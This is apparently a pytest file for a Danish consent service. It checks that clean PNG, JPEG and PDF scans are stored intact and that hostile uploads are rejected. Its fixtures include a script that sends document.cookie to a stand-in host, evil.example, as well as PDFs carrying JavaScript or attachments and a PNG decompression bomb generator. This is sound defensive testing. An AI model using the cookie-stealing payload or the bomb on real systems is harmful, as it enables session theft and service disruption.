"""The scan upload end to end, on both engines: a clean PNG, JPEG or PDF is stored and
served back byte for byte (it is evidence); a PNG with HTML appended, a JPEG with a ZIP
appended, a PDF with JavaScript or an attachment, a truncated file and a decompression bomb
are refused with a Danish reason, and nothing is stored or recorded."""

from __future__ import annotations

import hashlib
import io
import json
import struct
import zlib
from collections.abc import Callable
from datetime import date

import pytest
from fastapi.testclient import TestClient
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from sqlalchemy import func, select

from consent_service.audit.models import AuditEvent
from consent_service.clock import FixedClock
from consent_service.consents.models import Consent, ConsentScan
from consent_service.context import AppContext
from tests.api.test_citizens_consents import print_form, record, refer, register
from tests.factories import synthetic_cpr, tiny_jpeg, tiny_pdf, tiny_png

HTML = b"<html><script>document.location='https://evil.example/'+document.cookie</script>"


def _pdf_with_javascript() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(tiny_pdf())))
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hej')"),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_with_attachment() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(tiny_pdf())))
    writer.add_attachment("side.html", HTML)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _bomb() -> bytes:
    side = 20_000
    raw = (b"\x00" * (1 + side // 8)) * side

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def _counts(ctx: AppContext) -> tuple[int, int, int]:
    with ctx.sessions() as s:
        return (
            s.scalar(select(func.count()).select_from(Consent)) or 0,
            s.scalar(select(func.count()).select_from(ConsentScan)) or 0,
            s.scalar(
                select(func.count())
                .select_from(AuditEvent)
                .where(AuditEvent.action == "consent.recorded")
            )
            or 0,
        )


@pytest.fixture
def nav(ctx: AppContext, client: TestClient, clock: FixedClock) -> str:
    from tests.conftest import enrolled_person, log_in

    return log_in(client, enrolled_person(ctx, "navigator"), clock)


def test_hostile_scans_are_refused_and_nothing_is_stored(
    ctx: AppContext, client: TestClient, clock: FixedClock, nav: str
) -> None:
    today = clock.now().date()
    pid = register(client, nav, synthetic_cpr(date(1962, 3, 9), 4))
    refer(client, nav, pid, today)
    form_id = print_form(client, nav, pid, "journal")
    before = _counts(ctx)
    hostile = {
        "png+html": (tiny_png() + HTML, "efter billedets afslutning"),
        "jpeg+zip": (tiny_jpeg() + b"PK\x03\x04" + b"\x00" * 40, "efter billedets afslutning"),
        "pdf+html": (tiny_pdf() + HTML, "efter PDF-filens afslutning"),
        "pdf+js": (_pdf_with_javascript(), "JavaScript"),
        "pdf+attachment": (_pdf_with_attachment(), "vedhæftede"),
        "truncated png": (tiny_png()[:-20], "beskadiget eller afkortet"),
        "bomb": (_bomb(), "for stort"),
        "html": (HTML, "PDF-, PNG- eller JPEG"),
    }
    for name, (content, reason) in hostile.items():
        r = record(client, nav, pid, "journal", form_id, today, scan=content)
        assert r.status_code == 400, name
        assert reason in r.text, name
        assert "Scanningen" in r.text or "PDF-filen" in r.text or "Billedet" in r.text, name
    assert _counts(ctx) == before
    assert "state-given" not in client.get(f"/borgere/{pid}").text
    # The careless user then uploads the clean scan of the same form: accepted.
    assert record(client, nav, pid, "journal", form_id, today).status_code == 303


@pytest.mark.parametrize(
    ("make", "content_type"),
    [(tiny_png, "image/png"), (tiny_jpeg, "image/jpeg"), (tiny_pdf, "application/pdf")],
)
def test_clean_scans_are_stored_byte_for_byte(
    ctx: AppContext,
    client: TestClient,
    clock: FixedClock,
    nav: str,
    make: Callable[[], bytes],
    content_type: str,
) -> None:
    today = clock.now().date()
    pid = register(client, nav, synthetic_cpr(date(1963, 5, 11), 2))
    refer(client, nav, pid, today)
    form_id = print_form(client, nav, pid, "journal")
    content = make()
    assert record(client, nav, pid, "journal", form_id, today, scan=content).status_code == 303
    with ctx.sessions() as s:
        consent = s.scalars(select(Consent).where(Consent.form_id == form_id)).one()
        scan = s.scalars(select(ConsentScan).where(ConsentScan.consent_id == consent.id)).one()
        assert (scan.content_type, scan.size) == (content_type, len(content))
        assert scan.sha256 == hashlib.sha256(content).hexdigest()
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "consent.recorded")).all()[
            -1
        ]
        assert json.loads(event.details)["scan_sha256"] == scan.sha256
        public_id = consent.public_id
    served = client.get(f"/samtykker/{public_id}/scanning")
    assert served.status_code == 200
    assert served.content == content
    assert served.headers["content-type"].startswith(content_type)
